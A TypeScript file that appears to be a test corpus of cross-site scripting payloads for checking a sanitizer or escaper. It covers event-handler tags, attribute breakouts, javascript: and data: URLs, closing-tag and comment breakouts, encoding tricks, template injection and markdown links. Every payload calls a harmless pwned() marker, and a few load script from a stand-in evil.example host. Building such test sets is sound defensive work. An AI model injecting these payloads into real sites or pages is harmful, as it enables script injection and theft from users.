/**
 * Texts that try to become something else than text: in an element, in an attribute, in an address, in a script, in a style, in a URL, across
 * an escape that was made once too often or once too little. Each would call `pwned()`.
 */
export const xssPayloads: readonly string[] = [
  ...elements(),
  ...attributes(),
  ...addresses(),
  ...broken(),
  ...encoded(),
  ...others(),
];

/** What is put where text is expected. */
function elements(): string[] {
  const events = [
    "<img src=x onerror=pwned()>",
    "<svg onload=pwned()>",
    "<svg/onload=pwned()//",
    "<body onload=pwned()>",
    "<details open ontoggle=pwned()>",
    "<input autofocus onfocus=pwned()>",
    "<select autofocus onfocus=pwned()>",
    "<textarea autofocus onfocus=pwned()>",
    "<video src=x onerror=pwned()>",
    "<video><source onerror=pwned()></video>",
    "<audio src=x onerror=pwned()>",
    "<marquee onstart=pwned()>",
    "<object data=x onerror=pwned()>",
    "<iframe onload=pwned()>",
    "<div onpointerover=pwned()>x</div>",
    "<a onmouseover=pwned()>x</a>",
    "<style onload=pwned()></style>",
    "<link rel=stylesheet href=x onerror=pwned()>",
    "<x tabindex=1 onfocusin=pwned() autofocus>",
    "<button popovertarget=p>x</button><div id=p popover onbeforetoggle=pwned()>",
  ];
  const scripts = [
    "<script>pwned()</script>",
    "<SCRIPT>pwned()</SCRIPT>",
    "<script src=data:,pwned()></script>",
    "<script src=//evil.example/x.js></script>",
    "<script type=module>pwned()</script>",
    "<svg><script>pwned()</script></svg>",
    "<svg><script href=data:,pwned() /></svg>",
    "<scr<script>ipt>pwned()</scr</script>ipt>",
    "<script\n>pwned()</script\n>",
    "<script/x>pwned()</script>",
  ];
  const frames = [
    "<iframe src=javascript:pwned()></iframe>",
    '<iframe srcdoc="<script>parent.pwned()</script>"></iframe>',
    "<embed src=javascript:pwned()>",
    "<object data=javascript:pwned()></object>",
    "<base href=//evil.example/>",
    '<meta http-equiv=refresh content="0;url=javascript:pwned()">',
    "<form action=javascript:pwned()><button autofocus>x</button></form>",
    "<form><button formaction=javascript:pwned()>x</button></form>",
    "<math href=javascript:pwned()>x</math>",
    "<svg><a xlink:href=javascript:pwned()><text y=20>x</text></a></svg>",
    "<svg><animate onbegin=pwned() attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:pwned()>",
    "<template shadowrootmode=open><script>pwned()</script></template>",
  ];
  return [...events, ...scripts, ...frames];
}

/** What ends the attribute it stands in. */
function attributes(): string[] {
  return [
    '" onmouseover="pwned()',
    '" autofocus onfocus="pwned()" x="',
    '"><script>pwned()</script>',
    '"><img src=x onerror=pwned()>',
    "' onmouseover='pwned()",
    "' autofocus onfocus='pwned()' x='",
    "'><script>pwned()</script>",
    "` onmouseover=`pwned()",
    " onmouseover=pwned() ",
    "x onfocus=pwned() autofocus tabindex=1",
    '"/onload="pwned()"/x="',
    '" style="background:url(javascript:pwned())',
    '" formaction="javascript:pwned()',
    '" href="javascript:pwned()',
    '\\" onmouseover=\\"pwned()',
    '"\tonmouseover\n=\r"pwned()"',
  ];
}

/** What stands where an address is expected. */
function addresses(): string[] {
  return [
    "javascript:pwned()",
    "JaVaScRiPt:pwned()",
    " javascript:pwned()",
    "java\nscript:pwned()",
    "java\tscript:pwned()",
    "\u0001javascript:pwned()",
    "javascript://a.example/%0Apwned()",
    "javascript:/*http://a.example/*/pwned()",
    "data:text/html,<script>parent.pwned()</script>",
    "data:text/html;base64,PHNjcmlwdD5wYXJlbnQucHduZWQoKTwvc2NyaXB0Pg==",
    "vbscript:pwned()",
    "view-source:javascript:pwned()",
    "blob:javascript:pwned()",
    "https://a.example/'onmouseover='pwned()",
    'https://a.example/"onmouseover="pwned()',
    "https://a.example/<script>pwned()</script>",
    "https://javascript:pwned()@a.example/",
    "//evil.example/x.js",
    "\\\\evil.example\\x.js",
    "https://a.example/?q=</a><img src=x onerror=pwned()>",
  ];
}

/** What ends the element or comment it stands in, or is not whole. */
function broken(): string[] {
  return [
    "</title><script>pwned()</script>",
    "</textarea><script>pwned()</script>",
    "</style><script>pwned()</script>",
    "</script><script>pwned()</script>",
    "</noscript><img src=x onerror=pwned()>",
    "</template><img src=x onerror=pwned()>",
    "--><script>pwned()</script>",
    "--!><script>pwned()</script>",
    "]]><script>pwned()</script>",
    "<!--><script>pwned()</script>-->",
    "<![CDATA[<script>pwned()</script>]]>",
    "<img src=x onerror=pwned()",
    "<img src=`x`onerror=pwned()>",
    "<<script>pwned()//<</script>",
    '<img """><script>pwned()</script>">',
    "</pre><script>pwned()</script><pre>",
    "</option></select><img src=x onerror=pwned()>",
    '<noscript><p title="</noscript><img src=x onerror=pwned()>">',
  ];
}

/** What becomes markup when it is decoded once too often. */
function encoded(): string[] {
  return [
    "&lt;script&gt;pwned()&lt;/script&gt;",
    "&#60;script&#62;pwned()&#60;/script&#62;",
    "&#x3c;img src=x onerror=pwned()&#x3e;",
    "%3Cscript%3Epwned()%3C/script%3E",
    "\\u003cscript\\u003epwned()\\u003c/script\\u003e",
    "\\x3cscript\\x3epwned()\\x3c/script\\x3e",
    "+ADw-script+AD4-pwned()+ADw-/script+AD4-",
    "\uFF1Cscript\uFF1Epwned()\uFF1C/script\uFF1E",
    "<\u0000script>pwned()</script>",
    "<scr\u0000ipt>pwned()</scr\u0000ipt>",
    "\u202E<script>pwned()</script>",
    "\uD800<script>pwned()</script>",
    "<\u200Bscript>pwned()</script>",
    "&amp;lt;script&amp;gt;pwned()",
  ];
}

/** Templates, styles, and what scripts of pages might put in. */
function others(): string[] {
  return [
    "{{constructor.constructor('pwned()')()}}",
    "${pwned()}",
    "<%= pwned() %>",
    "#{pwned()}",
    "[[${pwned()}]]",
    "expression(pwned())",
    "</style><style>@import 'javascript:pwned()';",
    "');pwned();//",
    '");pwned();//',
    "\u2028pwned()//",
    "__proto__",
    "constructor",
    "<a href=javascript:pwned()>click</a>",
    "[click](javascript:pwned())",
    '![x](x"onerror="pwned())',
  ];
}
